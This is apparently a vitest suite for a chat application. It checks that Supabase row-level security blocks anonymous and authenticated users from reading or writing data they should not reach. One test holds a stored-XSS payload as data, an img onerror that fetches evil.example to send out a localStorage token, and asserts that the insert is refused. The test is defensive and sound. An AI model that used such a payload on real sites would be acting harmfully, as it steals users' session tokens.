import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import postgres from 'postgres'
import { createSupabaseLikeDatabase, dropDatabase, migrateDrizzle, psqlAsPostgres, supabaseApply } from './support/db'

/**
 * Row level security as the Supabase Data API applies it: each request runs in a transaction with
 * `set local role <anon|authenticated|service_role>` and `request.jwt.claims` set from the JWT.
 * Database: chat_supabase on the services-up.sh cluster, recreated for this file.
 */
const DB = 'chat_supabase'
const APP_TABLES = ['analytics_fold_state', 'analytics_hourly', 'analytics_responses', 'app_settings', 'attachments', 'audit_log', 'auth_refresh_tokens', 'auth_sessions', 'automod_rules', 'conversation_participants', 'conversations', 'drafts', 'escalation_rules', 'exports', 'local_credentials', 'mentions', 'message_edits', 'messages', 'password_resets', 'pending_email_notifications', 'profiles', 'project_invitations', 'project_members', 'projects', 'push_subscriptions', 'reactions', 'reports', 'retention_policies', 'scheduled_messages', 'thread_reads', 'user_sanctions']

let sql: postgres.Sql
let url: string
const id = {
  alice: randomUUID(), bob: randomUUID(), carol: randomUUID(), dave: randomUUID(), mallory: randomUUID(),
  project: randomUUID(), otherProject: randomUUID(),
  convA: randomUUID(), convB: randomUUID(), locked: randomUUID(),
  msgA1: randomUUID(), msgA2: randomUUID(), msgB1: randomUUID(),
  /** Deleted by its author: the server blanked it and kept the text in message_edits. */
  msgDeleted: randomUUID(),
  attA: randomUUID(), attB: randomUUID(),
  /** Uploaded by bob into A, not sent with any message yet. */
  attUnsent: randomUUID(),
  /** Sent with msgDeleted. */
  attDeleted: randomUUID()
}
/** Storage object names as the server makes them: '<conversation id>/<attachment id>/<file name>'. */
const key = {
  a: `${id.convA}/${id.attA}/a.png`,
  b: `${id.convB}/${id.attB}/b.png`,
  unsent: `${id.convA}/${id.attUnsent}/draft.png`,
  deleted: `${id.convA}/${id.attDeleted}/gone.png`,
  /** Put into A's folder around the server: no attachment row names it. */
  rogue: `${id.convA}/${randomUUID()}/rogue.html`
}

type Role = 'anon' | 'authenticated' | 'service_role'
/** One Data API request: role + claims for the length of a transaction. */
async function as<T>(role: Role, sub: string | null, fn: (tx: postgres.TransactionSql) => Promise<T>): Promise<T> {
  return sql.begin(async (tx) => {
    await tx.unsafe(`set local role ${role}`)
    const claims = sub ? { sub, role, aud: 'authenticated' } : { role }
    await tx`select set_config('request.jwt.claims', ${JSON.stringify(claims)}, true)`
    return fn(tx)
  }) as Promise<T>
}
const count = async (tx: postgres.TransactionSql, table: string, where = 'true') =>
  (await tx.unsafe(`select count(*)::int as n from ${table} where ${where}`))[0]!.n as number

/** Resolves with the Postgres error code, or 'ok' when the statement went through. */
async function outcome(p: Promise<unknown>): Promise<string> {
  try {
    await p
    return 'ok'
  } catch (error) {
    return (error as { code?: string }).code ?? String(error)
  }
}

const newMessage = (conversationId: string, senderId: string, seq: number) => ({
  id: randomUUID(), conversation_id: conversationId, seq, updated_seq: seq, client_id: randomUUID(),
  sender_id: senderId, content: `hello ${seq}`, content_html: `<p>hello ${seq}</p>`
})

beforeAll(async () => {
  url = createSupabaseLikeDatabase(DB)
  await migrateDrizzle(url)
  supabaseApply(url)
  sql = postgres(url, { max: 2, onnotice: () => {} })
  // Seed as the table owner (the chat server's role), which RLS does not restrict.
  await sql.begin(async (tx) => {
    for (const [name, uid] of Object.entries({ alice: id.alice, bob: id.bob, carol: id.carol, dave: id.dave, mallory: id.mallory })) {
      await tx`insert into profiles (id, email, display_name) values (${uid}, ${name + '@test.local'}, ${name})`
    }
    await tx`insert into projects (id, name, created_by) values (${id.project}, 'p', ${id.alice}), (${id.otherProject}, 'other', ${id.dave})`
    await tx`insert into project_members (project_id, user_id, role) values
      (${id.project}, ${id.alice}, 'owner'), (${id.project}, ${id.bob}, 'member'), (${id.project}, ${id.carol}, 'member'),
      (${id.project}, ${id.mallory}, 'member'), (${id.otherProject}, ${id.dave}, 'owner')`
    await tx`insert into conversations (id, project_id, type, title, last_seq) values
      (${id.convA}, ${id.project}, 'group', 'A', 4), (${id.convB}, ${id.project}, 'group', 'B', 1),
      (${id.locked}, ${id.project}, 'group', 'locked', 0)`
    await tx`update conversations set status = 'locked' where id = ${id.locked}`
    await tx`insert into conversation_participants (conversation_id, user_id) values
      (${id.convA}, ${id.alice}), (${id.convA}, ${id.bob}), (${id.convA}, ${id.mallory}),
      (${id.convB}, ${id.bob}), (${id.locked}, ${id.alice})`
    await tx`insert into messages ${tx([
      { ...newMessage(id.convA, id.alice, 1), id: id.msgA1 },
      { ...newMessage(id.convA, id.bob, 2), id: id.msgA2 },
      { ...newMessage(id.convB, id.bob, 1), id: id.msgB1 }
    ])}`
    // As the server leaves a deleted message: blanked, the text moved to message_edits.
    await tx`insert into messages ${tx({ ...newMessage(id.convA, id.bob, 3), id: id.msgDeleted, updated_seq: 4, content: '', content_html: '', deleted_at: new Date(), deleted_by: id.bob })}`
    await tx`insert into reactions (message_id, user_id, emoji) values (${id.msgA1}, ${id.bob}, '👍'), (${id.msgB1}, ${id.bob}, '🎉')`
    await tx`insert into mentions (message_id, user_id, kind) values (${id.msgA1}, ${id.bob}, 'user'), (${id.msgB1}, ${id.bob}, 'user'), (${id.msgDeleted}, ${id.alice}, 'user')`
    await tx`insert into message_edits (message_id, previous_content, kind, edited_by) values
      (${id.msgA1}, 'helo', 'edit', ${id.alice}), (${id.msgB1}, 'hi', 'edit', ${id.bob}),
      (${id.msgDeleted}, 'the text bob deleted', 'delete', ${id.bob})`
    await tx`insert into attachments (id, conversation_id, message_id, uploader_id, file_name, mime_type, size_bytes, storage_key) values
      (${id.attA}, ${id.convA}, ${id.msgA1}, ${id.alice}, 'a.png', 'image/png', 10, ${key.a}),
      (${id.attB}, ${id.convB}, ${id.msgB1}, ${id.bob}, 'b.png', 'image/png', 10, ${key.b}),
      (${id.attUnsent}, ${id.convA}, null, ${id.bob}, 'draft.png', 'image/png', 10, ${key.unsent}),
      (${id.attDeleted}, ${id.convA}, ${id.msgDeleted}, ${id.bob}, 'gone.png', 'image/png', 10, ${key.deleted})`
    await tx`insert into local_credentials (user_id, password_hash) values (${id.alice}, 'hash')`
    await tx`insert into app_settings (key, value) values ('local_jwt_secret', 'secret')`
    await tx`insert into audit_log (actor_id, action, target_type) values (${id.alice}, 'x', 'y')`
    await tx`insert into user_sanctions (user_id, kind, reason) values (${id.mallory}, 'mute', 'spam')`
    await tx`insert into reports (message_id, reporter_id, reason) values (${id.msgA2}, ${id.alice}, 'spam')`
    await tx`insert into storage.objects ${tx([key.a, key.b, key.unsent, key.deleted, key.rogue].map(name => ({ bucket_id: 'attachments', name })))}`
  })
}, 120_000)

afterAll(async () => {
  await sql?.end({ timeout: 5 })
  if (process.env.SUPABASE_KEEP_DB !== '1') dropDatabase(DB)
})

describe('supabase SQL', () => {
  it('enables row level security on every table drizzle creates', async () => {
    const rows = await sql<{ relname: string, relrowsecurity: boolean }[]>`
      select c.relname, c.relrowsecurity from pg_class c join pg_namespace n on n.oid = c.relnamespace
      where n.nspname = 'public' and c.relkind = 'r' order by 1`
    expect(rows.map(r => r.relname)).toEqual(APP_TABLES)
    expect(rows.filter(r => !r.relrowsecurity)).toEqual([])
  })

  it('helpers are security definer with an empty search_path in schema private', async () => {
    const rows = await sql<{ proname: string, prosecdef: boolean, proconfig: string[] | null }[]>`
      select p.proname, p.prosecdef, p.proconfig from pg_proc p join pg_namespace n on n.oid = p.pronamespace
      where n.nspname = 'private' and p.proname <> 'object_conversation_id' order by 1`
    expect(rows.map(r => r.proname)).toEqual(['can_read_attachment', 'can_read_message', 'can_read_object', 'is_participant', 'is_project_member', 'shares_project'])
    for (const r of rows) {
      expect(r.prosecdef).toBe(true)
      expect(r.proconfig).toContain('search_path=""')
    }
  })

  it('is idempotent: applying again changes nothing and keeps working', async () => {
    const policies = async () => (await sql`select schemaname, tablename, policyname, cmd, qual, with_check from pg_policies order by 1, 2, 3`).map(r => ({ ...r }))
    const before = await policies()
    supabaseApply(url)
    expect(await policies()).toEqual(before)
    expect(before.length).toBe(10)
    const [bucket] = await sql`select public, file_size_limit::int as limit, allowed_mime_types from storage.buckets where id = 'attachments'`
    expect(bucket).toMatchObject({ public: false, limit: 25 * 1024 * 1024 })
    expect(bucket!.allowed_mime_types).toContain('image/png')
  })

  it('upgrading a database that has the earlier member-write policies removes them', async () => {
    // What an earlier version of supabase/sql left behind on a deployed project.
    await sql.unsafe(`
      create function private.can_post(conversation_id uuid) returns boolean
        language sql stable security definer set search_path = '' as $$ select true $$;
      create function private.object_conversation_id(name text) returns uuid
        language sql immutable set search_path = '' as $$ select split_part(name, '/', 1)::uuid $$;
      grant insert on public.messages, public.reports to authenticated;
      grant select on public.message_edits to authenticated;
      create policy "messages: participants send as themselves" on public.messages
        for insert to authenticated with check (sender_id = (select auth.uid()) and private.can_post(conversation_id));
      create policy "reports: report as yourself" on public.reports for insert to authenticated with check (reporter_id = (select auth.uid()));
      create policy "message_edits: participants read" on public.message_edits for select to authenticated using (private.can_read_message(message_id));
      create policy "attachments: participants upload" on storage.objects
        for insert to authenticated with check (bucket_id = 'attachments' and private.can_post(private.object_conversation_id(name)));
    `)
    supabaseApply(url)
    const policies = (await sql`select policyname from pg_policies`).map(r => r.policyname)
    for (const retired of ['messages: participants send as themselves', 'reports: report as yourself', 'message_edits: participants read', 'attachments: participants upload']) {
      expect(policies).not.toContain(retired)
    }
    expect(await sql`select proname from pg_proc where pronamespace = 'private'::regnamespace and proname in ('can_post', 'object_conversation_id')`).toEqual([])
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into messages ${tx(newMessage(id.convA, id.alice, 90))}`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`select 1 from message_edits`))).toBe('42501')
  })

  it('refuses to run on a plain PostgreSQL database (no Supabase auth/storage schemas)', async () => {
    const plain = 'chat_supabase_plain'
    psqlAsPostgres(`drop database if exists ${plain} with (force); create database ${plain} owner chat_supabase;`)
    try {
      const plainUrl = url.replace(/\/[^/]+$/, `/${plain}`)
      await migrateDrizzle(plainUrl)
      expect(() => supabaseApply(plainUrl)).toThrow(/not a Supabase database/)
      const c = postgres(plainUrl, { max: 1, onnotice: () => {} })
      const [row] = await c`select count(*)::int as n from pg_class where relrowsecurity and relnamespace = 'public'::regnamespace`
      await c.end()
      expect(row!.n).toBe(0)
    } finally {
      psqlAsPostgres(`drop database if exists ${plain} with (force);`)
    }
  })
})

describe('RLS: read receipts and notification settings of participants', () => {
  const HIDDEN = ['last_read_seq', 'delivered_seq', 'read_at', 'muted', 'muted_until', 'notification_level']

  beforeAll(async () => {
    // Bob read A up to 2 on his devices, muted it, and does not share receipts.
    await sql`update conversation_participants set last_read_seq = 2, delivered_seq = 2, read_at = now(), muted = true
      where conversation_id = ${id.convA} and user_id = ${id.bob}`
    await sql`update profiles set read_receipts = false where id = ${id.bob}`
  })

  it('a fellow participant reads who takes part, but no column of their receipts or settings, however asked', async () => {
    const rows = await as('authenticated', id.alice, tx => tx`select user_id, role, joined_at from conversation_participants where conversation_id = ${id.convA}`)
    expect(rows.map(r => r.user_id).sort()).toEqual([id.alice, id.bob, id.mallory].sort())
    for (const column of HIDDEN) {
      expect(await outcome(as('authenticated', id.alice, tx => tx.unsafe(`select ${column} from conversation_participants where user_id = '${id.bob}'`))), column).toBe('42501')
    }
    const attacks: [string, string][] = [
      ['every column', 'select * from conversation_participants'],
      ['the whole row as JSON', 'select to_jsonb(cp) from conversation_participants cp'],
      ['a filter on the read position', `select user_id from conversation_participants where last_read_seq >= 2`],
      ['an order by the read time', 'select user_id from conversation_participants order by read_at'],
      ['a filter on delivery', 'select count(*) from conversation_participants where delivered_seq > 0'],
      ['thread read positions', 'select * from thread_reads']
    ]
    for (const [what, query] of attacks) {
      expect(await outcome(as('authenticated', id.alice, tx => tx.unsafe(query))), what).toBe('42501')
    }
  })

  it('holds for one\'s own row too (the server\'s API serves it) and for anon', async () => {
    expect(await outcome(as('authenticated', id.bob, tx => tx`select last_read_seq from conversation_participants where user_id = ${id.bob}`))).toBe('42501')
    expect(await outcome(as('anon', null, tx => tx`select user_id from conversation_participants`))).toBe('42501')
  })

  it('the service role and the server (table owner) still read every column', async () => {
    const [viaService] = await as('service_role', null, tx => tx`select last_read_seq::int, delivered_seq::int, read_at, muted from conversation_participants
      where conversation_id = ${id.convA} and user_id = ${id.bob}`)
    expect(viaService).toMatchObject({ last_read_seq: 2, delivered_seq: 2, muted: true })
    expect(viaService!.read_at).toBeInstanceOf(Date)
    const [viaOwner] = await sql`select last_read_seq::int from conversation_participants where conversation_id = ${id.convA} and user_id = ${id.bob}`
    expect(viaOwner!.last_read_seq).toBe(2)
  })
})

describe('RLS: reading', () => {
  it('a participant reads the messages of their conversations and only those', async () => {
    await as('authenticated', id.alice, async (tx) => {
      const rows = await tx`select id from messages order by seq`
      expect(rows.map(r => r.id).sort()).toEqual([id.msgA1, id.msgA2].sort())
      expect(await count(tx, 'conversations')).toBe(2) // A and the locked one
      expect(await count(tx, 'conversation_participants', `conversation_id = '${id.convA}'`)).toBe(3)
      expect(await count(tx, 'conversation_participants', `conversation_id = '${id.convB}'`)).toBe(0)
    })
    await as('authenticated', id.bob, async (tx) => {
      expect(await count(tx, 'messages')).toBe(3)
      expect(await count(tx, 'messages', `conversation_id = '${id.convB}'`)).toBe(1)
    })
  })

  it('a non-participant reads zero rows of the conversation, its messages and what hangs off them', async () => {
    await as('authenticated', id.carol, async (tx) => {
      for (const table of ['messages', 'conversations', 'conversation_participants', 'reactions', 'mentions', 'attachments']) {
        expect(await count(tx, table), table).toBe(0)
      }
    })
    await as('authenticated', id.alice, async (tx) => {
      expect(await count(tx, 'reactions')).toBe(1)
      expect(await count(tx, 'mentions')).toBe(1)
      expect(await count(tx, 'attachments')).toBe(1)
      expect(await count(tx, 'messages', `id = '${id.msgB1}'`)).toBe(0)
    })
  })

  it('profiles: yourself and people sharing a project, nobody else', async () => {
    await as('authenticated', id.carol, async (tx) => {
      const rows = await tx`select id from profiles`
      expect(rows.map(r => r.id).sort()).toEqual([id.alice, id.bob, id.carol, id.mallory].sort())
      expect(await count(tx, 'projects')).toBe(1)
      expect(await count(tx, 'project_members')).toBe(4)
    })
    await as('authenticated', id.dave, async (tx) => {
      expect((await tx`select id from profiles`).map(r => r.id)).toEqual([id.dave])
      expect(await count(tx, 'project_members', `project_id = '${id.project}'`)).toBe(0)
    })
  })

  it('service-only tables are closed to authenticated users', async () => {
    for (const table of ['local_credentials', 'app_settings', 'audit_log', 'user_sanctions', 'reports', 'project_invitations', 'push_subscriptions', 'password_resets', 'pending_email_notifications', 'thread_reads']) {
      expect(await outcome(as('authenticated', id.alice, tx => tx.unsafe(`select * from ${table}`))), table).toBe('42501')
    }
  })

  it('anon reads nothing from any table', async () => {
    for (const table of APP_TABLES) {
      const result = await outcome(as('anon', null, async (tx) => {
        const rows = await tx.unsafe(`select * from ${table}`)
        if (rows.length) throw new Error(`anon read ${rows.length} rows of ${table}`)
      }))
      expect(['42501', 'ok'], `${table}: ${result}`).toContain(result)
    }
    expect(await outcome(as('anon', null, tx => tx`select * from storage.objects where bucket_id = 'attachments'`.then((r) => { if (r.length) throw new Error('anon read objects') })))).toBe('ok')
  })

  it('service_role bypasses RLS', async () => {
    await as('service_role', null, async (tx) => {
      expect(await count(tx, 'messages', `id in ('${id.msgA1}', '${id.msgA2}', '${id.msgB1}')`)).toBe(3)
      expect(await count(tx, 'local_credentials')).toBe(1)
      expect(await count(tx, 'reports')).toBeGreaterThanOrEqual(1)
    })
  })
})

describe('RLS: the server is the only writer', () => {
  it('a participant cannot plant a message with their own HTML (stored XSS rendered by v-html)', async () => {
    const m = { ...newMessage(id.convA, id.alice, 5), content: 'hi', content_html: '<img src=x onerror="fetch(`//evil.example/?t=`+localStorage.token)">' }
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into messages ${tx(m)}`))).toBe('42501')
    expect(await sql`select 1 from messages where id = ${m.id}`).toHaveLength(0)
  })

  it('a participant cannot take the next seq, so the server\'s next send still succeeds', async () => {
    const [{ next }] = await sql`select last_seq + 1 as next from conversations where id = ${id.convA}` as unknown as [{ next: string }]
    const squatter = newMessage(id.convA, id.alice, Number(next))
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into messages ${tx(squatter)}`))).toBe('42501')
    // The server's send: take the conversation's next value, insert with it (as the table owner).
    const sent = await sql.begin(async (tx) => {
      const [{ seq }] = await tx`update conversations set last_seq = last_seq + 1 where id = ${id.convA} returning last_seq as seq` as unknown as [{ seq: string }]
      return tx`insert into messages ${tx(newMessage(id.convA, id.bob, Number(seq)))} returning seq`
    })
    expect(Number(sent[0]!.seq)).toBe(Number(next))
  })

  it('nobody sends as someone else', async () => {
    const m = newMessage(id.convA, id.bob, 11)
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into messages ${tx(m)}`))).toBe('42501')
    expect(await sql`select 1 from messages where id = ${m.id}`).toHaveLength(0)
  })

  it('nobody sends into a conversation they are not in, nor into a locked one, nor while muted', async () => {
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into messages ${tx(newMessage(id.convB, id.alice, 12))}`))).toBe('42501')
    expect(await outcome(as('authenticated', id.carol, tx => tx`insert into messages ${tx(newMessage(id.convA, id.carol, 13))}`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into messages ${tx(newMessage(id.locked, id.alice, 1))}`))).toBe('42501')
    expect(await outcome(as('authenticated', id.mallory, tx => tx`insert into messages ${tx(newMessage(id.convA, id.mallory, 14))}`))).toBe('42501')
  })

  it('anon cannot write', async () => {
    expect(await outcome(as('anon', null, tx => tx`insert into messages ${tx(newMessage(id.convA, id.alice, 15))}`))).toBe('42501')
  })

  it('authenticated users cannot update or delete messages, nor change their own role', async () => {
    expect(await outcome(as('authenticated', id.alice, tx => tx`update messages set content = 'x' where id = ${id.msgA1}`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`delete from messages where id = ${id.msgA1}`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`update profiles set role = 'admin' where id = ${id.alice}`))).toBe('42501')
    expect((await sql`select content from messages where id = ${id.msgA1}`)[0]!.content).toBe('hello 1')
    expect((await sql`select role from profiles where id = ${id.alice}`)[0]!.role).toBe('member')
  })

  it('a participant cannot write what the server derives: edits, reactions, mentions, attachments, counters, reads', async () => {
    const attempts: Array<[string, (tx: postgres.TransactionSql) => Promise<unknown>]> = [
      ['forge an edit', tx => tx`insert into message_edits (message_id, previous_content, edited_by) values (${id.msgA2}, 'bob said something else', ${id.bob})`],
      ['react as someone else', tx => tx`insert into reactions (message_id, user_id, emoji) values (${id.msgA1}, ${id.bob}, '💩')`],
      ['react as themselves', tx => tx`insert into reactions (message_id, user_id, emoji) values (${id.msgA1}, ${id.alice}, '👍')`],
      ['remove a reaction', tx => tx`delete from reactions where message_id = ${id.msgA1}`],
      ['mention @channel', tx => tx`insert into mentions (message_id, user_id, kind) values (${id.msgA1}, null, 'channel')`],
      ['attach a file to a message', tx => tx`insert into attachments (conversation_id, message_id, uploader_id, file_name, mime_type, size_bytes, storage_key) values (${id.convA}, ${id.msgA1}, ${id.alice}, 'x.html', 'text/html', 1, ${key.rogue})`],
      ['claim an upload', tx => tx`update attachments set message_id = ${id.msgA1} where id = ${id.attUnsent}`],
      ['move the counter', tx => tx`update conversations set last_seq = last_seq + 1000 where id = ${id.convA}`],
      ['unlock a conversation', tx => tx`update conversations set status = 'active' where id = ${id.locked}`],
      ['mark read ahead', tx => tx`update conversation_participants set last_read_seq = 1000000 where user_id = ${id.alice}`],
      ['become a conversation owner', tx => tx`update conversation_participants set role = 'owner' where user_id = ${id.alice}`],
      ['join a conversation', tx => tx`insert into conversation_participants (conversation_id, user_id) values (${id.convB}, ${id.alice})`],
      ['join a project', tx => tx`insert into project_members (project_id, user_id) values (${id.otherProject}, ${id.alice})`],
      ['lift a mute', tx => tx`delete from user_sanctions where user_id = ${id.mallory}`]
    ]
    for (const [what, attempt] of attempts) {
      expect(await outcome(as('authenticated', id.alice, attempt)), what).toBe('42501')
    }
    expect(await sql`select count(*)::int as n from reactions where message_id = ${id.msgA1}`).toEqual([{ n: 1 }])
    expect((await sql`select message_id from attachments where id = ${id.attUnsent}`)[0]!.message_id).toBeNull()
  })

  it('reports go through the server: a member cannot file one directly', async () => {
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into reports (message_id, reporter_id, reason) values (${id.msgA2}, ${id.alice}, 'rude')`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into reports (message_id, reporter_id, reason) values (${id.msgA2}, ${id.bob}, 'rude')`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into reports (message_id, reporter_id, reason) values (${id.msgB1}, ${id.alice}, 'rude')`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into reports (message_id, reporter_id, reason, status) values (${id.msgA2}, ${id.alice}, 'rude', 'resolved')`))).toBe('42501')
    expect(await sql`select count(*)::int as n from reports where reason = 'rude'`).toEqual([{ n: 0 }])
  })

  it('the API roles hold no write privilege on any table, and no policy lets them write', async () => {
    const writable = await sql`
      select c.relname, r.rolname, p.privilege
      from pg_class c join pg_namespace n on n.oid = c.relnamespace
      cross join (values ('anon'), ('authenticated')) as r (rolname)
      cross join (values ('INSERT'), ('UPDATE'), ('DELETE'), ('TRUNCATE')) as p (privilege)
      where n.nspname = 'public' and c.relkind in ('r', 'p') and has_table_privilege(r.rolname, c.oid, p.privilege)
      order by 1, 2, 3`
    expect(writable.map(r => `${r.rolname} ${r.privilege} ${r.relname}`)).toEqual([])
    const writePolicies = await sql`
      select schemaname, tablename, policyname, cmd from pg_policies
      where (schemaname = 'public' or (schemaname = 'storage' and tablename = 'objects')) and cmd <> 'SELECT'`
    expect(writePolicies.map(r => `${r.schemaname}.${r.tablename}: ${r.policyname} (${r.cmd})`)).toEqual([])
  })

  it('a table a later migration adds is closed to the API roles before its policies exist', async () => {
    // As drizzle-kit would create it: by the owner, RLS off, before supabase-apply runs again.
    await sql`create table public.later_feature (id uuid primary key default gen_random_uuid(), owner_id uuid, secret text)`
    try {
      await sql`insert into public.later_feature (owner_id, secret) values (${id.bob}, 'bob only')`
      for (const role of ['anon', 'authenticated'] as const) {
        expect(await outcome(as(role, role === 'anon' ? null : id.alice, tx => tx`select secret from public.later_feature`)), role).toBe('42501')
        expect(await outcome(as(role, role === 'anon' ? null : id.alice, tx => tx`insert into public.later_feature (secret) values ('planted')`)), role).toBe('42501')
      }
    } finally {
      await sql`drop table public.later_feature`
    }
  })
})

describe('RLS: what members read is what the server would show them', () => {
  it('edit history is closed: no pre-edit text, no deleted text', async () => {
    for (const who of [id.alice, id.bob]) {
      expect(await outcome(as('authenticated', who, tx => tx`select previous_content from message_edits`))).toBe('42501')
    }
    expect(await outcome(as('authenticated', id.alice, tx => tx`select previous_content from message_edits where kind = 'delete'`))).toBe('42501')
  })

  it('a deleted message is gone from the Data API, with its mentions and reactions', async () => {
    await sql`insert into reactions (message_id, user_id, emoji) values (${id.msgDeleted}, ${id.alice}, '👀') on conflict do nothing`
    for (const who of [id.alice, id.bob]) {
      await as('authenticated', who, async (tx) => {
        expect(await count(tx, 'messages', `id = '${id.msgDeleted}'`)).toBe(0)
        expect(await count(tx, 'mentions', `message_id = '${id.msgDeleted}'`)).toBe(0)
        expect(await count(tx, 'reactions', `message_id = '${id.msgDeleted}'`)).toBe(0)
      })
    }
  })

  it('attachment rows: an upload not sent yet only to its uploader, a deleted message\'s to nobody', async () => {
    await as('authenticated', id.bob, async (tx) => {
      expect((await tx`select id from attachments where conversation_id = ${id.convA} order by file_name`).map(r => r.id)).toEqual([id.attA, id.attUnsent])
    })
    for (const who of [id.alice, id.mallory]) {
      await as('authenticated', who, async (tx) => {
        expect((await tx`select id from attachments`).map(r => r.id)).toEqual([id.attA])
      })
    }
  })
})

describe('RLS: storage bucket `attachments`', () => {
  it('participants read the objects under their conversation folder only', async () => {
    await as('authenticated', id.alice, async (tx) => {
      expect((await tx`select name from storage.objects`).map(r => r.name)).toEqual([key.a])
    })
    await as('authenticated', id.carol, async (tx) => {
      expect(await tx`select name from storage.objects`).toHaveLength(0)
    })
  })

  it('serves no unsent upload but to its uploader, no deleted message\'s file, no object put around the server', async () => {
    const names = (who: string) => as('authenticated', who, async tx => (await tx`select name from storage.objects`).map(r => r.name as string).sort())
    expect(await names(id.bob)).toEqual([key.a, key.b, key.unsent].sort())
    for (const who of [id.alice, id.mallory]) {
      const seen = await names(who)
      expect(seen, who).not.toContain(key.unsent)
      expect(seen, who).not.toContain(key.deleted)
      expect(seen, who).not.toContain(key.rogue)
    }
    // Once sent, the upload is everybody's in the conversation; once its message is deleted, nobody's.
    await sql`update attachments set message_id = ${id.msgA2} where id = ${id.attUnsent}`
    try {
      expect(await names(id.alice)).toContain(key.unsent)
      await sql`update messages set deleted_at = now() where id = ${id.msgA2}`
      expect(await names(id.alice)).not.toContain(key.unsent)
      expect(await names(id.bob)).not.toContain(key.unsent)
    } finally {
      await sql`update messages set deleted_at = null where id = ${id.msgA2}`
      await sql`update attachments set message_id = null where id = ${id.attUnsent}`
    }
  })

  it('nobody uploads, replaces or removes objects around the server', async () => {
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into storage.objects (bucket_id, name, owner) values ('attachments', ${id.convA + '/' + randomUUID() + '/new.html'}, ${id.alice})`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into storage.objects (bucket_id, name, owner) values ('attachments', ${id.convB + '/z/new.png'}, ${id.alice})`))).toBe('42501')
    expect(await outcome(as('authenticated', id.alice, tx => tx`insert into storage.objects (bucket_id, name, owner) values ('attachments', 'not-a-uuid/new.png', ${id.alice})`))).toBe('42501')
    expect(await outcome(as('anon', null, tx => tx`insert into storage.objects (bucket_id, name) values ('attachments', ${id.convA + '/z/anon.png'})`))).toBe('42501')
    // Without a policy an update or delete matches no row: nothing changes.
    await as('authenticated', id.alice, async (tx) => {
      await tx`update storage.objects set metadata = '{"mimetype":"text/html"}' where name = ${key.a}`
      await tx`delete from storage.objects where name = ${key.a}`
    })
    expect(await sql`select metadata from storage.objects where name = ${key.a}`).toEqual([{ metadata: null }])
  })
})
